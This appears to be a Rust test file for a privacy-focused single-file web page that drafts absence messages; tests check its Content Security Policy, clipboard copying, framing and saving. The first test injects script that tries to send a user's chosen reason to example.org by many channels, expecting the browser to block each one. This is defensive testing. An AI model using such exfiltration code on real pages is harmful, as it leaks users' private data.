//! "We send nothing and keep nothing." Every journey is guarded; here the page is tempted.

use anyhow::{Result, ensure};
use journeys::{Expected, Key, Setting, Site, journey};
use policy::{Band, MessageKind, Reason};

#[test]
fn once_loaded_the_browser_itself_refuses_every_connection() -> Result<()> {
    let refusals = ["connect-src", "img-src", "media-src", "frame-src", "Content Security Policy"];
    let setting = refusals.into_iter().fold(Setting::desktop()?, Setting::expecting);
    journey(setting, |page| {
        page.open()?;
        page.choose_reason(Reason::Illness)?;
        // Not even to its own server; and the guard sees whether any of it goes out.
        page.run_script(
            "const way = (there) => {
                 try { there() } catch {}
             };
             for (const address of ['/?said=illness', 'https://example.org/?said=illness']) {
                 way(() => fetch(address).catch(() => {}));
                 way(() => navigator.sendBeacon(address, 'illness'));
                 way(() => new EventSource(address));
                 way(() => { const one = new XMLHttpRequest(); one.open('POST', address); one.send('illness') });
                 way(() => { new Image().src = address });
                 way(() => document.body.append(Object.assign(document.createElement('iframe'), { src: address })));
                 way(() => document.body.append(Object.assign(document.createElement('video'), { src: address })));
             }
             way(() => new WebSocket('wss://example.org/?said=illness'));",
        )?;
        // Time to go out, for whatever would.
        page.choose_notice(Band::Under24h)?;
        page.wait_for_verdict("another time")
    })
}

#[test]
fn the_headers_made_for_servers_let_the_page_do_its_work() -> Result<()> {
    let headed = Setting::desktop()?.try_serving(Site::with_published_headers)?;
    journey(headed, |page| {
        page.open()?;
        page.choose_reason(Reason::Illness)?;
        page.choose_notice(Band::Under24h)?;
        page.reset_clipboard()?;
        page.press("Copy email")?;
        page.wait_for_status("Copied")?;
        // These headers let no script read the clipboard; a person can still paste.
        let text = page.find("textbox", "Text")?;
        page.tap(&text)?;
        page.key(Key::SelectAll)?;
        page.key(Key::Backspace)?;
        ensure!(page.message()?.is_empty(), "the text cannot be deleted");
        page.key(Key::Paste)?;
        let expected = Expected::of(Reason::Illness, Band::Under24h);
        ensure!(page.message()? == expected.message(MessageKind::Email)?.body, "pasted: {}", page.message()?);
        Ok(())
    })
}

/// A careers page, say, that shows ours in a frame.
const AROUND: &str = "<!doctype html><html lang=en data-start=ready><title>Careers</title><link rel=icon href=data:,>
    <iframe src=/rain-check.html title='Rain Check' width=900 height=500></iframe>
    <p><label>Pasted <textarea></textarea></label>";

#[test]
fn the_page_in_one_file_does_its_work_in_a_frame_of_another_page() -> Result<()> {
    let site = |site: Site| site.with_page("careers.html", AROUND).with_published_headers();
    journey(Setting::desktop()?.try_serving(site)?, |page| {
        page.open_path("careers.html")?;
        page.reset_clipboard()?;
        page.turn_to_frame(true)?;
        page.choose_reason(Reason::Illness)?;
        page.tap(&page.find("radio", "In less than 24 hours")?)?;
        page.press("Copy email")?;
        page.wait_for_status("Copied")?;
        page.turn_to_frame(false)?;
        let pasted = page.find("textbox", "Pasted")?;
        page.tap(&pasted)?;
        page.key(Key::Paste)?;
        let expected = Expected::of(Reason::Illness, Band::Under24h);
        let pasted = page.value(&pasted)?;
        ensure!(pasted == expected.message(MessageKind::Email)?.body, "pasted: {pasted}");
        Ok(())
    })
}

#[test]
fn the_page_can_be_kept_as_one_file() -> Result<()> {
    journey(Setting::desktop()?, |page| {
        page.open()?;
        let link = page.find("link", "Keep this page as one file")?;
        let goes = page.script_on(&link, "return [arguments[0].pathname, arguments[0].download !== null]")?;
        ensure!(goes == serde_json::json!(["/rain-check.html", true]), "it goes to {goes}");
        Ok(())
    })
}
